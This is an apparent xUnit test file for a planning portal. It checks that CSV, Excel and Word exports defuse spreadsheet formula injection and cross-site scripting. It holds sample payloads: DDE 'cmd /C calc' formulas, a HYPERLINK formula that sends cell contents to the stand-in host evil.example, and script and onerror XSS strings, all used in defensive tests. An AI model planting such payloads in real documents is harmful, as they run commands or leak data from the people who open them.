using System.Globalization;
using System.IO.Compression;
using System.Net;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using PlanTracker.Domain.Adjustments;
using PlanTracker.Infrastructure.Spreadsheets;
using PlanTracker.TestSupport;
using PlanTracker.Web.Tests.AdjustmentDecisions;
using PlanTracker.Web.Tests.Progress;
using PlanTracker.Web.Tests.Support;

namespace PlanTracker.Web.Tests.Abuse;

/// <summary>
/// Spreadsheet formula injection (OWASP "CSV injection"): text a person wrote that starts with = + - @, a tab or a
/// carriage return reaches every CSV as text behind an apostrophe and every .xlsx as a string cell, never a formula;
/// a Word document carries it as escaped text without a field or hyperlink. Numbers, negative ones too, stay numbers.
/// </summary>
[Trait(TestCategory.Name, TestCategory.Abuse)]
public sealed class FormulaInjectionTests(AdjustmentDecisionPagesTests.Fixture portal) : IClassFixture<AdjustmentDecisionPagesTests.Fixture>
{
    private const string Beijing = "110000";

    private static readonly string[] Formulas =
    [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此查看\")",
        "+SUM(1,2)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=2+2",
    ];

    [Fact]
    public async Task ReportNarratives_ReachTheProgressWorkbookAndTheEvaluationReport_AsTextNeverFormulas()
    {
        var (period, task) = await ReportingSeed.OpenAnnualPeriodWithLeadAsync(portal.ConnectionString, 2014, 2, Beijing);
        var entry = $"/progress/{period}/tasks/{task}";
        using var reporter = await portal.SignedInClientAsync("bj-reporter");
        using var reviewer = await portal.SignedInClientAsync("bj-reviewer");
        using var planner = await portal.SignedInClientAsync("planner");
        (string, string)[] fields =
        [
            ("Progress", "OnTrack"), ("PercentComplete", "60"), ("InvestmentWan", "350.5"),
            ("ProgressText", Formulas[0]), ("Achievements", Formulas[1]), ("Problems", Formulas[2]), ("NextSteps", Formulas[4]),
            ("Milestones[0].Title", Formulas[3]), ("Milestones[0].ReachedOn", "2014-03-15"),
        ];
        (await ReportForms.PostAsync(reporter, entry + "/save", await reporter.GetStringAsync(Url(entry)), fields)).StatusCode.Should().Be(HttpStatusCode.OK);

        var workbook = await reporter.GetAsync(Url($"/progress/{period}/workbook"));
        workbook.StatusCode.Should().Be(HttpStatusCode.OK);
        var cells = XlsxCells(await workbook.Content.ReadAsByteArrayAsync());
        foreach (var formula in new[] { Formulas[0], Formulas[1], Formulas[2], Formulas[3], Formulas[4] })
        {
            cells.Should().Contain(c => c.Text == formula && c.IsString, $"“{formula}” is a string cell");
        }

        cells.Should().Contain(c => c.Text == "350.5" && !c.IsString, "the money invested stays a number");

        // Submitted, reviewed and approved, the narratives reach the annual evaluation report and its annex.
        (await ReportForms.PostAsync(reporter, entry + "/submit", await reporter.GetStringAsync(Url(entry)), fields)).StatusCode.Should().Be(HttpStatusCode.OK);
        (await ReportForms.PostAsync(reviewer, entry + "/review", await reviewer.GetStringAsync(Url(entry)), ("Comment", Formulas[1]))).StatusCode.Should().Be(HttpStatusCode.OK);
        var report = (await ReportForms.ReportAsync(portal.ConnectionString, period, task))!;
        (await ReportForms.PostAsync(planner, $"/progress/reports/{report.Id}/approve", await planner.GetStringAsync(Url($"/progress/reports/{report.Id}")), ("Comment", Formulas[0])))
            .StatusCode.Should().Be(HttpStatusCode.OK);

        var annex = await planner.GetAsync(Url($"/plans/{portal.PlanId}/evaluation?kind=annual&year=2014&format=xlsx"));
        annex.StatusCode.Should().Be(HttpStatusCode.OK);
        XlsxCells(await annex.Content.ReadAsByteArrayAsync()).Should().OnlyContain(c => c.IsString || c.IsNumber, "the annex holds strings and numbers, never a formula");
        var word = await planner.GetAsync(Url($"/plans/{portal.PlanId}/evaluation?kind=annual&year=2014&format=docx"));
        word.StatusCode.Should().Be(HttpStatusCode.OK);
        AssertInertDocument(await word.Content.ReadAsByteArrayAsync());
    }

    [Fact]
    public async Task AdjustmentTitlesAndTaskWording_ReachTheQueueAndVersionDownloads_AsText()
    {
        var (number, _) = await portal.CurrentAsync();
        var id = await portal.ProposeAsync(Formulas[1], s => [new RewordTask(portal.TaskKey(s, 3), Formulas[4] + " &lt;script&gt;alert('xss09')&lt;/script&gt;", null)]);
        using var planner = await portal.SignedInClientAsync("planner");

        var csv = await TextAsync(planner, "/adjustments?table=pending&format=csv");
        csv.Should().Contain("\"'" + Formulas[1].Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", "the title is quoted and defused");
        CsvFieldsStartingAFormula(csv).Should().BeEmpty();
        var pending = XlsxCells(await BytesAsync(planner, "/adjustments?table=pending&format=xlsx"));
        pending.Should().Contain(c => c.Text == Formulas[1] && c.IsString);
        pending.Should().Contain(c => c.Text == "1" && c.IsNumber, "the number of changes stays a number");
        XlsxCells(await BytesAsync(planner, $"/adjustments/{id}?table=changes&format=xlsx")).Should().OnlyContain(c => c.IsString || c.IsNumber);
        CsvFieldsStartingAFormula(await TextAsync(planner, $"/adjustments/{id}?table=changes&format=csv")).Should().BeEmpty();

        await planner.PostAsync(Url($"/adjustments/{id}/approve"), new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["__RequestVerificationToken"] = Antiforgery.TokenIn(await planner.GetStringAsync(Url($"/adjustments/{id}"))),
            ["RowVersion"] = (await portal.RowVersionAsync(id)).ToString(CultureInfo.InvariantCulture),
            ["Comment"] = Formulas[2],
        })).ShouldBeAsync(HttpStatusCode.OK);

        var compare = $"/plans/{portal.PlanId}/versions/compare?from={number}&to={number + 1}&table=changes";
        var diff = await TextAsync(planner, compare + "&format=csv");
        diff.Should().Contain("'" + Formulas[4]);
        CsvFieldsStartingAFormula(diff).Should().BeEmpty();
        var diffCells = XlsxCells(await BytesAsync(planner, compare + "&format=xlsx"));
        diffCells.Should().Contain(c => c.Text.StartsWith(Formulas[4], StringComparison.Ordinal) && c.IsString);
        diffCells.Should().OnlyContain(c => c.IsString || c.IsNumber);
        var decided = await TextAsync(planner, "/adjustments?table=decided&format=csv");
        decided.Should().Contain("'" + Formulas[2]);
        CsvFieldsStartingAFormula(decided).Should().BeEmpty();

        // The 动态调整报告 of 2015, with a proposal rejected that year under a hostile title, reason and comment.
        await XssCorpus.RejectedIn2015Async(portal, Formulas[0] + " <script>alert('xss01')</script>", Formulas[1], "@SUM(1+1) <img src=x onerror=alert('xss02')>");
        var window = $"/plans/{portal.PlanId}/adjustment-report?from=2015-01-01&to=2015-12-31";
        var report = await planner.GetAsync(Url(window + "&format=docx"));
        report.StatusCode.Should().Be(HttpStatusCode.OK);
        var xml = AssertInertDocument(await report.Content.ReadAsByteArrayAsync());
        xml.Should().Contain("&lt;script&gt;alert('xss01')&lt;/script&gt;", "the proposal's title is in the document as escaped text");
        foreach (var key in new[] { "decisions", "counts" })
        {
            XlsxCells(await BytesAsync(planner, $"{window}&table={key}&format=xlsx")).Should().OnlyContain(c => c.IsString || c.IsNumber);
            CsvFieldsStartingAFormula(await TextAsync(planner, $"{window}&table={key}&format=csv")).Should().BeEmpty();
        }
    }

    [Fact]
    public async Task ControlCharactersInAForm_AreDropped_SoTheSaveAnswersAndTheWorkbookStillOpens_AndANulIsABadRequest()
    {
        var (period, task) = await ReportingSeed.OpenAnnualPeriodWithLeadAsync(portal.ConnectionString, 2015, 5, Beijing);
        var entry = $"/progress/{period}/tasks/{task}";
        using var reporter = await portal.SignedInClientAsync("bj-reporter");

        // ASP.NET Core's form reader refuses a NUL in a url-encoded value: the Chinese "request invalid" page, nothing stored.
        var nul = await ReportForms.PostAsync(reporter, entry + "/save", await reporter.GetStringAsync(Url(entry)), ReportForms.Complete("进展\0情况"));
        nul.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await nul.Content.ReadAsStringAsync()).Should().Contain("请求无效");
        (await ReportForms.ReportAsync(portal.ConnectionString, period, task)).Should().BeNull();

        // Other control characters (a pasted Word line break, an escape) would make the workbook unreadable: dropped.
        await ReportForms.PostAsync(reporter, entry + "/save", await reporter.GetStringAsync(Url(entry)), ReportForms.Complete("进展\u0001说明\v第二行\u001B")).ShouldBeAsync(HttpStatusCode.OK);
        (await ReportForms.ReportAsync(portal.ConnectionString, period, task))!.ProgressText.Should().Be("进展说明\n第二行");
        XlsxCells(await BytesAsync(reporter, $"/progress/{period}/workbook")).Should().Contain(c => c.Text == "进展说明\n第二行" && c.IsString);
    }

    [Fact]
    public void XlsxWriter_StoresFormulaTextAsStrings_NumbersAsNumbers_AndDropsWhatXmlCannotHold()
    {
        var sheet = new XlsxSheet("数据");
        sheet.Add([.. Formulas.Select(f => XlsxCell.Text(f))]);
        sheet.Add(new XlsxCell(-12.5m, XlsxStyle.ReadOnlyNumber), new XlsxCell(-3, XlsxStyle.ReadOnlyNumber), XlsxCell.Text("-12.5"), XlsxCell.Text("页\u0001码\u000b换行\0"));

        var cells = XlsxCells(XlsxWriter.Write([sheet]));

        cells.Where(c => c.IsString).Select(c => c.Text).Should().Contain(Formulas.Where(f => !f.Contains('\r', StringComparison.Ordinal))).And.Contain("-12.5").And.Contain("页码\n换行");
        cells.Where(c => c.IsNumber).Select(c => c.Text).Should().Equal("-12.5", "-3");
    }

    private sealed record CellRead(string Text, bool IsString, bool IsNumber);

    /// <summary>Every cell of every worksheet; a formula anywhere fails at once.</summary>
    private static List<CellRead> XlsxCells(byte[] bytes)
    {
        using var stream = new MemoryStream(bytes);
        using var document = SpreadsheetDocument.Open(stream, false);
        var cells = new List<CellRead>();
        foreach (var part in document.WorkbookPart!.WorksheetParts)
        {
            foreach (var cell in part.Worksheet.Descendants<Cell>())
            {
                cell.CellFormula.Should().BeNull($"cell {cell.CellReference} holds no formula");
                var type = cell.DataType?.Value;
                if (type == CellValues.InlineString)
                {
                    cells.Add(new CellRead(cell.InlineString!.InnerText, true, false));
                }
                else if (type == CellValues.SharedString || type == CellValues.String)
                {
                    cells.Add(new CellRead(cell.InnerText, true, false));
                }
                else if (cell.CellValue is { } value)
                {
                    double.TryParse(value.Text, NumberStyles.Float, CultureInfo.InvariantCulture, out _).Should().BeTrue($"cell {cell.CellReference} is a number");
                    cells.Add(new CellRead(value.Text, false, true));
                }
            }
        }

        return cells;
    }

    /// <summary>The document's main XML: no hyperlink, no field but the page number, no script; returned for more checks.</summary>
    private static string AssertInertDocument(byte[] bytes)
    {
        using (var stream = new MemoryStream(bytes))
        using (var document = WordprocessingDocument.Open(stream, false))
        {
            document.MainDocumentPart!.HyperlinkRelationships.Should().BeEmpty();
        }

        using var zip = new ZipArchive(new MemoryStream(bytes), ZipArchiveMode.Read);
        using var reader = new StreamReader(zip.GetEntry("word/document.xml")!.Open());
        var xml = reader.ReadToEnd();
        xml.Should().NotContain("<w:hyperlink").And.NotContain("HYPERLINK \"").And.NotContain("<script").And.NotContain("DDEAUTO");
        return xml;
    }

    /// <summary>The CSV fields (after unquoting) that a spreadsheet would evaluate: text starting with = + - @ tab or CR that is not a plain number.</summary>
    private static List<string> CsvFieldsStartingAFormula(string csv)
    {
        var risky = new List<string>();
        var field = new System.Text.StringBuilder();
        var quoted = false;
        var atStart = true;
        void End()
        {
            var text = field.ToString();
            if (text.Length > 0 && "=+-@\t\r".Contains(text[0], StringComparison.Ordinal) && !decimal.TryParse(text, NumberStyles.Number, CultureInfo.InvariantCulture, out _))
            {
                risky.Add(text);
            }

            field.Clear();
            atStart = true;
        }

        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"' && atStart)
            {
                quoted = true;
                atStart = false;
            }
            else if (c is ',' or '\n')
            {
                End();
            }
            else if (c != '\r' || i + 1 >= csv.Length || csv[i + 1] != '\n')
            {
                field.Append(c);
                atStart = false;
            }
        }

        End();
        return risky;
    }

    private static async Task<string> TextAsync(HttpClient client, string url)
    {
        var response = await client.GetAsync(Url(url));
        response.StatusCode.Should().Be(HttpStatusCode.OK, url);
        return await response.Content.ReadAsStringAsync();
    }

    private static async Task<byte[]> BytesAsync(HttpClient client, string url)
    {
        var response = await client.GetAsync(Url(url));
        response.StatusCode.Should().Be(HttpStatusCode.OK, url);
        return await response.Content.ReadAsByteArrayAsync();
    }

    private static Uri Url(string path) => new(path, UriKind.Relative);
}
